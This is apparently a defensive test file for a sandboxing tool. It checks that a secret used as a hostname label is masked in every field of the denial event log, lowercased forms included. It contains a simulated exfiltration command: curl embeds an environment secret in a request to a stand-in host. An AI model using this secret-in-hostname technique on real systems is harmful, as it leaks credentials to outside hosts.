/**
 * Attack pass H (black box), a secret's value in the log in lower case: a mixed-case `env` secret
 * used as a host label (`http://$TOKEN.example.test/`) was masked in the `net.deny` host, but the
 * event's reason names the host as the proxy compares it, lowercased ("no rule allows
 * tokh8-…example.test"), which kept the value (all but its case) in the append-only log. The
 * lowercase form is masked too. One foreground run; the request is refused by the in-sandbox proxy
 * (no rule allows it), never dialled. Positive control: the agent had the value.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { paddock } from '../helpers/cli.js';
import { events, suite } from './helpers.js';

const s = suite('atkh-sc');
afterAll(() => s.cleanup());
const env = { ...process.env, PADDOCK_VAULT_PASSPHRASE: 'attack pass h secret case passphrase' };

describe('a mixed-case secret as a host label', { timeout: 90_000 }, () => {
  it('is [secret NAME] in every field of the net.deny event, also lowercased', () => {
    const token = 'tokH8-Cq7RwZ3Yn5Xb1V';
    const prog = 'curl -s -o /dev/null --max-time 10 "http://$TOKEN.example.test/" || true; printf "got %s\\n" "$TOKEN"';
    const { dataDir, file, name } = s.setup((n) => ({ name: n, network: 'on', secrets: [{ name: 'TOKEN', as: 'env' }], command: ['bash', '-c', prog] }));
    expect(paddock(['--data-dir', dataDir, 'secret', 'set', name, 'TOKEN'], { input: `${token}\n`, env }).code).toBe(0);
    const r = paddock(['--data-dir', dataDir, 'run', file], { env });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(`got ${token}`); // positive control
    const denied = events(dataDir, name, 'net.deny');
    expect(denied.length).toBeGreaterThan(0);
    expect(String(denied[0]!.host)).toContain('[secret TOKEN]');
    const text = JSON.stringify(events(dataDir, name)).toLowerCase();
    expect(text).not.toContain(token.toLowerCase());
    expect(paddock(['--data-dir', dataDir, 'events', '--agent', name]).stdout.toLowerCase()).not.toContain(token.toLowerCase());
    expect(paddock(['--data-dir', dataDir, 'log', 'verify']).code).toBe(0);
  });
});
